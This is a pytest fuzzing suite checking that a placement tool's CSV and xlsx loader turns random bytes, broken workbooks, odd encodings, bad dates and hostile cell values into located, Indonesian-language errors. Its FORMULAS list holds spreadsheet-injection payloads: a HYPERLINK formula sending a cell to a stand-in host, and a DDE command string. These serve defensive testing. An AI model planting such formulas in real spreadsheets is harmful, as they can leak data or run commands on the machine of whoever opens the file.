"""Input fuzzing: random and adversarial files end in a correct parse or a located PlacementError.

Every case goes through :func:`placement.io.readers.load_dataset` and must either give a Dataset
or raise PlacementError whose issues name the file (and row and column where a cell is at fault)
with a registered code and a printable Indonesian message; any other exception fails the test.
The base data is the synthetic "tiny" region written in template format (csv and xlsx).

The ``ci`` hypothesis profile keeps the file under a minute; ``HYPOTHESIS_PROFILE=nightly`` draws
more examples and adds the 10^6-row pegawai file.
"""

from __future__ import annotations

import codecs
import csv
import io
import os
import re
import shutil
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from placement.cli.base import main
from placement.domain.errors import Issue, PlacementError, has_errors
from placement.domain.model import Dataset
from placement.domain.schema import TABLES
from placement.domain.validate import CODES, clean_cell
from placement.io.readers import load_dataset, validate_path
from placement.io.writers import XLSX_NAME, write_dataset
from placement.synth import generate

NIGHTLY = os.environ.get("HYPOTHESIS_PROFILE", "ci") == "nightly"
TABLE_NAMES: tuple[str, ...] = tuple(t.name for t in TABLES)
EXCEL_EPOCH = date(1899, 12, 30)


def examples(n: int) -> int:
    """``n`` examples in the ci profile (60 by default), proportionally more in nightly."""
    return max(1, n * settings.default.max_examples // 60)


# --- what a well-formed outcome is --------------------------------------------------------------

# Issues about a whole file or sheet: no row and no column.
FILE_CODES = frozenset(
    {
        "PATH_TIDAK_ADA",
        "FILE_TIDAK_ADA",
        "FILE_OPSIONAL_TIDAK_ADA",
        "FILE_TIDAK_TERBACA",
        "FILE_KOSONG",
        "FILE_DIABAIKAN",
        "WORKBOOK_GANDA",
        "TABEL_TANPA_DATA",
    }
)
COLUMN_CODES = frozenset(
    {"KOLOM_WAJIB_TIDAK_ADA", "PRIORITAS_DITURUNKAN", "WAJIB_ISI_DITURUNKAN"}
)  # a column, no row (the two derived-value warnings summarise a column, listing its rows)
ROW_CODES = frozenset({"BARIS_KOLOM_LEBIH"})  # a row, no column
INDONESIAN = re.compile(
    r"\b(tidak|harus|seharusnya|wajib|kolom|baris|isi|sudah|dengan|atau|berisi|perbaiki|periksa"
    r"|hapus|tambahkan|sesuai|bukan|dari|yang|dan)\b",
    re.IGNORECASE,
)


def assert_well_formed(issues: list[Issue], folder: Path) -> None:
    """Each issue names a known file/sheet, and a row and column where a cell is at fault; its
    code is registered with that severity; its messages are printable, short, in Indonesian
    (and English)."""
    labels = {str(folder), *(f"{t}.csv" for t in TABLE_NAMES)}
    for p in folder.iterdir():
        labels |= {p.name, *(f"{p.name}:{t}" for t in TABLE_NAMES)}
    for issue in issues:
        where = f"{issue.code} at {issue.file}:{issue.row}:{issue.column}"
        assert issue.code in CODES, where
        assert issue.severity is CODES[issue.code].severity, where
        assert issue.file in labels, where
        if issue.code in FILE_CODES:
            assert issue.row is None and issue.column is None, where
        elif issue.code in COLUMN_CODES:
            assert issue.row is None and issue.column, where
        elif issue.code in ROW_CODES:
            assert issue.row is not None and issue.row >= 2 and issue.column is None, where
        elif issue.code == "TANGGAL_LAHIR_KOSONG" and issue.row is None:
            assert issue.column == "tanggal_lahir", where  # the whole column is missing
        else:  # a cell (or a header cell: row 1 or a title row above the header)
            assert issue.row is not None and issue.row >= 1 and issue.column, where
        for message in (issue.message_id, issue.message_en):
            assert message and message.isprintable() and len(message) < 800, (where, message)
        assert issue.message_id != issue.message_en, where
        assert INDONESIAN.search(issue.message_id), (where, issue.message_id)


def outcome(folder: Path) -> tuple[Dataset | None, list[Issue]]:
    """load_dataset: (dataset, warnings) or (None, the error's issues), both well formed."""
    try:
        ds, warnings = load_dataset(folder)
    except PlacementError as exc:
        assert exc.issues and has_errors(exc.issues)
        assert_well_formed(exc.issues, folder)
        return None, exc.issues
    assert not has_errors(warnings)
    assert_well_formed(warnings, folder)
    return ds, warnings


def errors_at(issues: list[Issue], file: str, row: int | None, column: str | None) -> set[str]:
    """Codes of the errors at one place."""
    return {
        i.code
        for i in issues
        if has_errors([i]) and i.file == file and i.row == row and i.column == column
    }


def error_codes(issues: list[Issue]) -> set[str]:
    return {i.code for i in issues if has_errors([i])}


# --- base data ------------------------------------------------------------------------------------

Rows = list[list[str]]


class Base(dict[str, Any]):
    """The base data (a dict with a short repr, for hypothesis' failure reports)."""

    def __repr__(self) -> str:
        return "<tiny synthetic region>"


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The tiny synthetic region as csv files, one workbook, and the csv rows in memory."""
    root = tmp_path_factory.mktemp("fuzz-base")
    ds = generate("tiny", seed=0)
    write_dataset(ds, root / "csv")
    write_dataset(ds, root / "xlsx", "xlsx")
    rows: dict[str, Rows] = {}
    for name in TABLE_NAMES:
        with (root / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as fh:
            rows[name] = list(csv.reader(fh))
    return Base(
        csv=root / "csv",
        xlsx=root / "xlsx",
        rows=rows,
        xlsx_bytes=(root / "xlsx" / XLSX_NAME).read_bytes(),
    )


@contextmanager
def folder_like(source: Path) -> Iterator[Path]:
    """A fresh copy of a base folder, removed afterwards (hypothesis examples share no state)."""
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        target = Path(tmp) / "data"
        shutil.copytree(source, target)
        yield target


def write_rows(path: Path, rows: Rows, *, sep: str = ",", encoding: str = "utf-8") -> None:
    with path.open("w", encoding=encoding, newline="") as fh:
        csv.writer(fh, delimiter=sep, lineterminator="\r\n").writerows(rows)


def with_cell(rows: Rows, row: int, column: str, value: str) -> Rows:
    """A copy of csv rows with one data cell replaced (``row`` = 0-based data row)."""
    out = [list(r) for r in rows]
    out[row + 1][out[0].index(column)] = value
    return out


def write_workbook(path: Path, tables: dict[str, Rows], edit: Callable[[Any], None] | None) -> None:
    """A workbook with one sheet per table (values as given; text starting with '=' becomes a
    formula without a cached value, as openpyxl writes it); ``edit`` may change the pegawai sheet."""
    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in tables.items():
        ws = wb.create_sheet(name)
        for r in rows:
            ws.append(r)
        if name == "pegawai" and edit is not None:
            edit(ws)
    wb.save(path)


# --- adversarial cell values ---------------------------------------------------------------------

FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://contoh.invalid/?d="&A2,"klik")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(A1:A9)",
    "=1+2",
    "'=1+2",
    "=",
)
CONTROLS: tuple[str, ...] = (
    "a\x00b",
    "\x00",
    "\x1b[31mmerah\x1b[0m",
    "baris\rdua",
    "baris\r\ndua",
    "tab\tdi dalam",
    "\t",
    "\x0b\x0c\x1c",
    "\u202eterbalik",
    "\ufeffbom",
    "\x7f",
    " null ",
    "'",
    '"kutip" di ""dalam""',
    "a,b;c",
    "\n",
)
LONG = "panjang " * 1250  # 10^4 characters


def cell_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(FORMULAS + CONTROLS),
        st.text(max_size=30),
        st.text(st.characters(max_codepoint=0xA0), max_size=20),
        st.just(LONG),
    )


def cell_places(base_rows: dict[str, Rows]) -> st.SearchStrategy[tuple[str, int, str]]:
    """(table, 0-based data row, header) of an existing cell."""
    return st.sampled_from(TABLE_NAMES).flatmap(
        lambda t: st.tuples(
            st.just(t),
            st.integers(0, len(base_rows[t]) - 2),
            st.sampled_from(base_rows[t][0]),
        )
    )


# Free-text columns: any text must read back exactly as cleaned (or be reported as empty).
FREE_TEXT: dict[tuple[str, str], tuple[str, str]] = {
    ("pegawai", "nama"): ("pegawai", "name"),
    ("pegawai", "jurusan"): ("pegawai", "major"),
    ("jabatan", "nama_jabatan"): ("jabatan", "name"),
}


def _check_free_text(
    ds: Dataset | None, issues: list[Issue], file: str, place: tuple[str, int, str], expected: str
) -> None:
    table, row, column = place
    if (table, column) not in FREE_TEXT:
        return
    frame_name, field = FREE_TEXT[(table, column)]
    required = column != "jurusan"
    if expected == "" and required:
        assert ds is None and "NILAI_WAJIB_KOSONG" in errors_at(issues, file, row + 2, column)
        return
    assert ds is not None, [(i.code, i.file, i.row, i.column) for i in issues]
    got = getattr(ds, frame_name)[field].iloc[row]
    assert (got if isinstance(got, str) else "") in (expected, "None" if not expected else "")


@settings(max_examples=examples(25), deadline=None)
@given(data=st.data(), value=cell_values())
def test_adversarial_cell_in_csv(base: dict[str, Any], data: st.DataObject, value: str) -> None:
    place = data.draw(cell_places(base["rows"]))
    table, row, column = place
    with folder_like(base["csv"]) as folder:
        write_rows(folder / f"{table}.csv", with_cell(base["rows"][table], row, column, value))
        ds, issues = outcome(folder)
    _check_free_text(ds, issues, f"{table}.csv", place, clean_cell(value))


def _xlsx_text(value: str) -> str:
    """What a workbook cell holding ``value`` reads back as (formulas have no cached value;
    XML turns CR into LF)."""
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if len(text) > 1 and text.startswith("="):
        return ""
    return clean_cell(text.replace("\r\n", "\n").replace("\r", "\n"))


@settings(max_examples=examples(10), deadline=None)
@given(data=st.data(), value=cell_values())
def test_adversarial_cell_in_xlsx(base: dict[str, Any], data: st.DataObject, value: str) -> None:
    place = data.draw(cell_places(base["rows"]))
    table, row, column = place
    tables = dict(base["rows"])
    tables[table] = with_cell(tables[table], row, column, ILLEGAL_CHARACTERS_RE.sub("", value))
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        folder = Path(tmp)
        write_workbook(folder / XLSX_NAME, tables, None)
        ds, issues = outcome(folder)
    _check_free_text(ds, issues, f"{XLSX_NAME}:{table}", place, _xlsx_text(value))


def test_formulas_and_control_characters_in_nips(base: dict[str, Any]) -> None:
    """Each value in the NIP cell of its own row (one file): each row reported there."""
    rows = base["rows"]["pegawai"]
    values = FORMULAS + CONTROLS
    for i, value in enumerate(values):
        rows = with_cell(rows, i, "nip", value)
    with folder_like(base["csv"]) as folder:
        write_rows(folder / "pegawai.csv", rows)
        ds, issues = outcome(folder)
    assert ds is None
    for i, value in enumerate(values):
        codes = errors_at(issues, "pegawai.csv", i + 2, "nip")
        assert codes & {"NIP_BUKAN_ANGKA", "NILAI_WAJIB_KOSONG"}, (value, codes)


def test_quoted_line_breaks_and_tabs_read_back_exactly(base: dict[str, Any]) -> None:
    rows = base["rows"]["pegawai"]
    name = "Budi\r\nSantoso\t(Plt.)\rS.T."
    for sep in (",", ";", "\t"):
        with folder_like(base["csv"]) as folder:
            write_rows(folder / "pegawai.csv", with_cell(rows, 3, "nama", name), sep=sep)
            ds, issues = outcome(folder)
        assert ds is not None, issues
        assert ds.pegawai["name"].iloc[3] == name


def test_unquoted_carriage_return_splits_the_row_and_is_located(base: dict[str, Any]) -> None:
    with folder_like(base["csv"]) as folder:
        path = folder / "pegawai.csv"
        lines = path.read_bytes().splitlines()
        lines[1] = lines[1].replace(b",PNS,", b",PN\rS,", 1)  # bare CR: a line break in csv
        path.write_bytes(b"\n".join(lines))
        ds, issues = outcome(folder)
    assert ds is None
    assert {i.row for i in issues if i.file == "pegawai.csv" and has_errors([i])} >= {2, 3}


# --- random bytes ---------------------------------------------------------------------------------


@settings(max_examples=examples(15), deadline=None)
@given(payload=st.binary(max_size=3000))
def test_random_bytes_as_a_csv_file(base: dict[str, Any], payload: bytes) -> None:
    with folder_like(base["csv"]) as folder:
        (folder / "pegawai.csv").write_bytes(payload)
        ds, issues = outcome(folder)
    assert ds is None
    assert any(i.file == "pegawai.csv" for i in issues if has_errors([i]))


@settings(max_examples=examples(10), deadline=None)
@given(payload=st.binary(max_size=2000))
def test_random_bytes_after_a_valid_header(base: dict[str, Any], payload: bytes) -> None:
    with folder_like(base["csv"]) as folder:
        path = folder / "jabatan.csv"
        path.write_bytes(path.read_bytes().splitlines()[0] + b"\r\n" + payload)
        outcome(folder)


@settings(max_examples=examples(15), deadline=None)
@given(payload=st.binary(max_size=3000))
def test_random_bytes_as_a_workbook(payload: bytes) -> None:
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        folder = Path(tmp)
        (folder / XLSX_NAME).write_bytes(payload)
        ds, issues = outcome(folder)
    assert ds is None
    assert error_codes(issues) == {"FILE_TIDAK_TERBACA"}
    assert [i.file for i in issues] == [XLSX_NAME]


@settings(max_examples=examples(20), deadline=None)
@given(data=st.data())
def test_damaged_workbook_bytes(base: dict[str, Any], data: st.DataObject) -> None:
    """Bytes of a valid workbook overwritten, cut or with garbage inserted."""
    book: bytes = base["xlsx_bytes"]
    at = data.draw(st.integers(0, len(book) - 1), label="at")
    garbage = data.draw(st.binary(min_size=1, max_size=64), label="garbage")
    how = data.draw(st.sampled_from(["overwrite", "cut", "insert"]), label="how")
    damaged = {
        "overwrite": book[:at] + garbage + book[at + len(garbage) :],
        "cut": book[:at],
        "insert": book[:at] + garbage + book[at:],
    }[how]
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        (Path(tmp) / XLSX_NAME).write_bytes(damaged)
        outcome(Path(tmp))


def _sheet_part(book: bytes) -> str:
    """Zip member of the pegawai sheet (the first sheet the writer writes)."""
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        return sorted(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))[0]


def _replace_part(book: bytes, part: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            zout.writestr(item, content if item.filename == part else zin.read(item.filename))
    return out.getvalue()


XML_PIECES: tuple[bytes, ...] = (
    b'<row r="0">',
    b'<row r="99999999">',
    b'<row r="-3">',
    b'<c r="ZZZZZZ5">',
    b'<c r="$A$1">',
    b'<c r="B2" t="s"><v>999999</v></c>',
    b'<c r="B2" t="n"><v>1e400</v></c>',
    b'<c r="B2" s="1"><v>1e300</v></c>',
    b'<c r="B2" t="d"><v>kemarin</v></c>',
    b"<v>" + b"9" * 400 + b"</v>",
    b"<v>NaN</v>",
    b"&#0;",
    b"\x00",
    b"<",
    b"]]>",
    b"&bom;",
)


@settings(max_examples=examples(25), deadline=None)
@given(data=st.data())
def test_damaged_sheet_xml(base: dict[str, Any], data: st.DataObject) -> None:
    """A well-zipped workbook whose pegawai sheet XML is damaged: both xlsx readers see it."""
    book: bytes = base["xlsx_bytes"]
    part = _sheet_part(book)
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        xml = z.read(part)
    at = data.draw(st.integers(0, len(xml)), label="at")
    piece = data.draw(st.one_of(st.sampled_from(XML_PIECES), st.binary(max_size=32)), label="x")
    cut = data.draw(st.integers(0, 40), label="cut")
    damaged = xml[:at] + piece + xml[at + cut :]
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        (Path(tmp) / XLSX_NAME).write_bytes(_replace_part(book, part, damaged))
        outcome(Path(tmp))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b'<row r="3"', b'<row r="99999999"'),  # beyond Excel's 1,048,576 rows
        (b'<row r="3"', b'<row r="0"'),
        (b'<c r="B3"', b'<c r="ZZZZZZ3"'),  # beyond column XFD
    ],
    ids=["row-99999999", "row-0", "column-ZZZZZZ"],
)
def test_cell_references_outside_a_sheet_are_reported_not_expanded(
    base: dict[str, Any], old: bytes, new: bytes
) -> None:
    book: bytes = base["xlsx_bytes"]
    part = _sheet_part(book)
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        xml = z.read(part)
    assert old in xml
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        folder = Path(tmp)
        (folder / XLSX_NAME).write_bytes(_replace_part(book, part, xml.replace(old, new, 1)))
        ds, issues = outcome(folder)
    assert ds is None
    assert errors_at(issues, f"{XLSX_NAME}:pegawai", None, None) == {"FILE_TIDAK_TERBACA"}


# --- encodings ------------------------------------------------------------------------------------

NAME = "José Müller Ñúñez"


def _encoded(text: str, how: str) -> bytes:
    return {
        "cp1252": lambda: text.encode("cp1252"),
        "latin-1": lambda: text.encode("latin-1"),
        "utf-8-sig": lambda: text.encode("utf-8-sig"),
        "utf-16": lambda: text.encode("utf-16"),
        "utf-16-le-no-bom": lambda: text.encode("utf-16-le"),
        "utf-16-be-no-bom": lambda: text.encode("utf-16-be"),
        "utf-16-be-bom": lambda: codecs.BOM_UTF16_BE + text.encode("utf-16-be"),
    }[how]()


@pytest.mark.parametrize(
    "how",
    [
        "cp1252",
        "latin-1",
        "utf-8-sig",
        "utf-16",
        "utf-16-le-no-bom",
        "utf-16-be-no-bom",
        "utf-16-be-bom",
    ],
)
def test_encodings_read_correctly(base: dict[str, Any], how: str) -> None:
    rows = with_cell(base["rows"]["pegawai"], 0, "nama", NAME)
    with folder_like(base["csv"]) as folder:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(rows)
        (folder / "pegawai.csv").write_bytes(_encoded(buffer.getvalue(), how))
        ds, issues = outcome(folder)
    assert ds is not None, [(i.code, i.message_id) for i in issues]
    assert ds.pegawai["name"].iloc[0] == NAME


def test_latin1_with_bytes_undefined_in_cp1252(base: dict[str, Any]) -> None:
    rows = with_cell(base["rows"]["pegawai"], 0, "nama", "Nama\x81\x8d\x90")
    with folder_like(base["csv"]) as folder:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(rows)
        (folder / "pegawai.csv").write_bytes(buffer.getvalue().encode("latin-1"))
        ds, _ = outcome(folder)
    assert ds is not None and ds.pegawai["name"].iloc[0] == "Nama\x81\x8d\x90"


def test_truncated_utf8_keeps_utf8_text(base: dict[str, Any]) -> None:
    """A UTF-8 file cut inside its last character: earlier names stay intact, the cut row is
    reported where it is."""
    rows = with_cell(base["rows"]["pegawai"], 0, "nama", NAME)
    with folder_like(base["csv"]) as folder:
        path = folder / "pegawai.csv"
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(rows[:-1])
        path.write_bytes((buffer.getvalue() + rows[-1][0][:10] + ",Ré").encode()[:-1])
        ds, issues = outcome(folder)
    assert ds is None
    last = len(rows)
    assert "NIP_PANJANG" in errors_at(issues, "pegawai.csv", last, "nip")
    assert "NILAI_WAJIB_KOSONG" in errors_at(issues, "pegawai.csv", last, "status_kepegawaian")
    assert not errors_at(issues, "pegawai.csv", 2, "nama")


def test_utf16_with_an_odd_byte_is_unreadable_not_a_crash(base: dict[str, Any]) -> None:
    with folder_like(base["csv"]) as folder:
        path = folder / "pegawai.csv"
        path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16")[:-1])
        ds, issues = outcome(folder)
    assert ds is None
    assert errors_at(issues, "pegawai.csv", None, None) == {"FILE_TIDAK_TERBACA"}


def test_mixed_utf8_and_cp1252_bytes_load_without_error(base: dict[str, Any]) -> None:
    """One cp1252 byte in a UTF-8 file: the file is read as cp1252 (documented fallback)."""
    rows = with_cell(base["rows"]["pegawai"], 0, "nama", NAME)
    rows = with_cell(rows, 5, "jurusan", "MARK")
    with folder_like(base["csv"]) as folder:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(rows)
        data = buffer.getvalue().encode().replace(b"MARK", b"Caf\xe9", 1)
        (folder / "pegawai.csv").write_bytes(data)
        ds, _ = outcome(folder)
    assert ds is not None
    assert ds.pegawai["name"].iloc[0] == NAME.encode().decode("cp1252")  # mojibake, no error


# --- long cells, headers, empty files ---------------------------------------------------------------


def test_ten_thousand_character_cells(base: dict[str, Any]) -> None:
    with folder_like(base["csv"]) as folder:
        write_rows(folder / "pegawai.csv", with_cell(base["rows"]["pegawai"], 4, "nama", LONG))
        ds, _ = outcome(folder)
    assert ds is not None and ds.pegawai["name"].iloc[4] == LONG.strip()
    expected = {
        "nip": "NIP_BUKAN_ANGKA",
        "tmt_golongan": "TANGGAL_TIDAK_VALID",
        "gol_ruang": "GOLONGAN_TIDAK_DIKENAL",
        "kotak_talenta": "KOTAK_TALENTA_TIDAK_VALID",
        "jurusan": None,
    }
    rows = base["rows"]["pegawai"]
    for i, column in enumerate(expected):
        rows = with_cell(rows, i, column, LONG)
    with folder_like(base["csv"]) as folder:
        write_rows(folder / "pegawai.csv", rows)
        ds, issues = outcome(folder)
    assert ds is None
    for i, (column, code) in enumerate(expected.items()):
        assert errors_at(issues, "pegawai.csv", i + 2, column) == ({code} if code else set())
    assert all(len(i.message_id) < 400 for i in issues)  # the value is cut in the message


def test_ten_thousand_digit_nip_is_reported_by_length(base: dict[str, Any]) -> None:
    with folder_like(base["csv"]) as folder:
        write_rows(
            folder / "pegawai.csv", with_cell(base["rows"]["pegawai"], 0, "nip", "9" * 10**4)
        )
        ds, issues = outcome(folder)
    assert ds is None and "NIP_PANJANG" in errors_at(issues, "pegawai.csv", 2, "nip")
    message = next(i.message_id for i in issues if i.code == "NIP_PANJANG")
    assert "10000 digit" in message and len(message) < 300


def test_duplicated_headers(base: dict[str, Any]) -> None:
    rows = base["rows"]["pegawai"]
    cases: dict[str, tuple[list[str], set[str]]] = {
        "same": (["nip"], {"KOLOM_GANDA"}),
        "alias": (["NIP BARU"], {"KOLOM_GANDA"}),
        "unknown-twice": (["catatan", "catatan"], set()),
    }
    for label, (extra, expected) in cases.items():
        widened = [r + (extra if i == 0 else [r[0]] * len(extra)) for i, r in enumerate(rows)]
        with folder_like(base["csv"]) as folder:
            write_rows(folder / "pegawai.csv", widened)
            ds, issues = outcome(folder)
        if expected:
            assert ds is None, label
            assert {i.code for i in issues if i.row == 1} >= expected, label
            assert any(i.code == "KOLOM_GANDA" and i.column == extra[0] for i in issues), label
        else:
            assert ds is not None, label
            unknown = [i for i in issues if i.code == "KOLOM_TIDAK_DIKENAL"]
            assert [(i.row, i.column) for i in unknown] == [(1, "catatan"), (1, "catatan")]


def test_duplicated_headers_in_a_workbook(base: dict[str, Any]) -> None:
    tables = dict(base["rows"])
    tables["jabatan"] = [[*r, r[0]] for r in tables["jabatan"]]  # jabatan_id twice
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        write_workbook(Path(tmp) / XLSX_NAME, tables, None)
        ds, issues = outcome(Path(tmp))
    assert ds is None
    assert "KOLOM_GANDA" in errors_at(issues, f"{XLSX_NAME}:jabatan", 1, "jabatan_id")


def _title_rows(ws: Any) -> None:
    ws.insert_rows(1, 3)
    ws["A1"] = "DAFTAR NOMINATIF PEGAWAI"
    ws.merge_cells("A1:U1")
    ws["A2"] = "Keadaan per 1 Januari 2026"
    ws.merge_cells("A2:F2")


def test_title_rows_above_the_header_in_a_workbook(base: dict[str, Any]) -> None:
    """Merged title rows above the header are skipped; rows keep their Excel numbers."""
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        write_workbook(Path(tmp) / XLSX_NAME, dict(base["rows"]), _title_rows)
        ds, issues = outcome(Path(tmp))
    assert ds is not None, [(i.code, i.row, i.column) for i in issues]
    assert len(ds.pegawai) == len(base["rows"]["pegawai"]) - 1

    def bad_grade(ws: Any) -> None:
        _title_rows(ws)
        ws["F7"] = "IIII/z"  # header in row 4, second data row in row 6: F7 is the third

    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        write_workbook(Path(tmp) / XLSX_NAME, dict(base["rows"]), bad_grade)
        ds, issues = outcome(Path(tmp))
    assert ds is None
    assert errors_at(issues, f"{XLSX_NAME}:pegawai", 7, "gol_ruang") == {"GOLONGAN_TIDAK_DIKENAL"}


def test_merged_header_cells_in_a_workbook(base: dict[str, Any]) -> None:
    """Two header cells merged: the hidden header is missing (a located error), not a crash."""
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        write_workbook(
            Path(tmp) / XLSX_NAME, dict(base["rows"]), lambda ws: ws.merge_cells("A1:B1")
        )
        ds, issues = outcome(Path(tmp))
    assert ds is None
    assert errors_at(issues, f"{XLSX_NAME}:pegawai", None, "nama") == {"KOLOM_WAJIB_TIDAK_ADA"}


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "FILE_KOSONG"),
        (b"\xef\xbb\xbf", "FILE_KOSONG"),
        (b" \r\n\r\n\t\r\n,,,\r\n", "FILE_KOSONG"),
        (b"\xff\xfe", "FILE_KOSONG"),
        (None, "TABEL_TANPA_DATA"),  # the header alone
    ],
    ids=["empty", "bom-only", "blank-lines", "utf16-bom-only", "header-only"],
)
def test_empty_and_header_only_csv(base: dict[str, Any], content: bytes | None, code: str) -> None:
    for table in ("pegawai", "jabatan"):
        with folder_like(base["csv"]) as folder:
            path = folder / f"{table}.csv"
            path.write_bytes(path.read_bytes().splitlines()[0] if content is None else content)
            ds, issues = outcome(folder)
        assert ds is None
        assert code in errors_at(issues, f"{table}.csv", None, None)


def test_empty_and_header_only_sheets(base: dict[str, Any]) -> None:
    for rows, code in (([], "FILE_KOSONG"), (base["rows"]["pegawai"][:1], "TABEL_TANPA_DATA")):
        tables = {**base["rows"], "pegawai": rows}
        with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
            write_workbook(Path(tmp) / XLSX_NAME, tables, None)
            ds, issues = outcome(Path(tmp))
        assert ds is None
        assert code in errors_at(issues, f"{XLSX_NAME}:pegawai", None, None)


def test_empty_optional_tables_are_well_formed(base: dict[str, Any]) -> None:
    with folder_like(base["csv"]) as folder:
        (folder / "kompetensi.csv").write_bytes(b"")
        (folder / "standar_kompetensi.csv").write_bytes(b"jabatan_id,kompetensi,level\r\n")
        ds, issues = outcome(folder)
    assert ds is None
    assert error_codes(issues) == {"FILE_KOSONG"}


# --- dates ----------------------------------------------------------------------------------------

DATE_FORMS: dict[str, Callable[[date], str]] = {
    "YYYY-MM-DD": lambda d: d.isoformat(),
    "DD-MM-YYYY": lambda d: d.strftime("%d-%m-%Y"),
    "DD/MM/YYYY": lambda d: d.strftime("%d/%m/%Y"),
    "D/M/YYYY": lambda d: f"{d.day}/{d.month}/{d.year:04d}",
    "YYYY-MM-DD HH:MM:SS": lambda d: f"{d.isoformat()} 13:45:00",
    "Excel serial": lambda d: str((d - EXCEL_EPOCH).days),
    "Excel serial with time": lambda d: f"{(d - EXCEL_EPOCH).days}.5",
}


@settings(max_examples=examples(12), deadline=None)
@given(
    day=st.dates(date(1900, 3, 1), date(2100, 12, 31)),
    form=st.sampled_from(sorted(DATE_FORMS)),
    row=st.integers(0, 20),
)
def test_dates_in_accepted_forms_parse_exactly(
    base: dict[str, Any], day: date, form: str, row: int
) -> None:
    text = DATE_FORMS[form](day)
    with folder_like(base["csv"]) as folder:
        write_rows(
            folder / "pegawai.csv", with_cell(base["rows"]["pegawai"], row, "tmt_jabatan", text)
        )
        frames, issues, _ = validate_path(folder)
        assert_well_formed(issues, folder)
    codes = errors_at(issues, "pegawai.csv", row + 2, "tmt_jabatan")
    if form.startswith("Excel serial") and not 61 <= (day - EXCEL_EPOCH).days <= 80_000:
        assert codes
        return
    assert frames["pegawai"]["tmt_jabatan"].iloc[row].date() == day
    born = frames["pegawai"]["birth_date"].iloc[row].date()
    assert codes <= IMPLAUSIBLE_DATE
    if day > date.today():  # a date that has not happened: located, never a tenure
        assert "TANGGAL_MASA_DEPAN" in codes
    elif day < born.replace(year=born.year + 17):
        assert "TANGGAL_TERLALU_AWAL" in codes
    elif day >= born.replace(year=born.year + 19):
        assert not has_errors(issues), (text, [(i.code, i.row, i.column) for i in issues])


IMPLAUSIBLE_DATE = frozenset({"TANGGAL_MASA_DEPAN", "TANGGAL_TERLALU_AWAL"})
GARBAGE_DATES: tuple[str, ...] = (
    "30-02-2020",
    "31/04/2021",
    "2020-13-01",
    "00-01-2020",
    "1899-12-31",
    "2101-01-01",
    "0001-01-01",
    "99999-01-01",
    "12/31/2020",
    "1 Januari 2020",
    "kemarin",
    "2020",
    "60",
    "80001",
    "١٢٣٤",
    "45000,5",
    "2020-01-01T00:00:00",
    "1e5",
    "-45000",
    "2020/01/01",
    "NaT",
    "nan",
)


@settings(max_examples=examples(12), deadline=None)
@given(
    text=st.one_of(
        st.sampled_from(GARBAGE_DATES),
        st.text(alphabet="0123456789-/.: eE+T", min_size=1, max_size=20),
    ),
    row=st.integers(0, 20),
)
def test_garbage_dates_are_located(base: dict[str, Any], text: str, row: int) -> None:
    with folder_like(base["csv"]) as folder:
        write_rows(
            folder / "pegawai.csv", with_cell(base["rows"]["pegawai"], row, "tmt_golongan", text)
        )
        ds, issues = outcome(folder)
    if ds is None:
        codes = errors_at(issues, "pegawai.csv", row + 2, "tmt_golongan")
        assert codes <= {"TANGGAL_TIDAK_VALID", *IMPLAUSIBLE_DATE}
        if clean_cell(text) and text in GARBAGE_DATES:
            assert codes == {"TANGGAL_TIDAK_VALID"}
    else:  # some random texts are dates after all: then they are within 1900–2100
        value = ds.pegawai["tmt_golongan"].iloc[row]
        assert value != value or 1900 <= value.year <= 2100  # NaT (empty) or a plausible date


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (datetime(2019, 4, 1), date(2019, 4, 1)),
        (datetime(2019, 4, 1, 23, 59, 59), date(2019, 4, 1)),
        (date(2019, 4, 1), date(2019, 4, 1)),
        ((date(2019, 4, 1) - EXCEL_EPOCH).days, date(2019, 4, 1)),  # a plain number cell
        ("01/04/2019", date(2019, 4, 1)),
        (timedelta(days=3), date(1900, 1, 3)),  # a duration cell reads as Excel shows it
    ],
    ids=["datetime", "datetime-with-time", "date", "serial-number", "text", "duration"],
)
def test_workbook_date_cells(base: dict[str, Any], value: Any, expected: date) -> None:
    def edit(ws: Any) -> None:
        ws.cell(2, base["rows"]["pegawai"][0].index("tmt_golongan") + 1, value)

    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        write_workbook(Path(tmp) / XLSX_NAME, dict(base["rows"]), edit)
        frames, issues, _ = validate_path(Path(tmp))
        assert_well_formed(issues, Path(tmp))
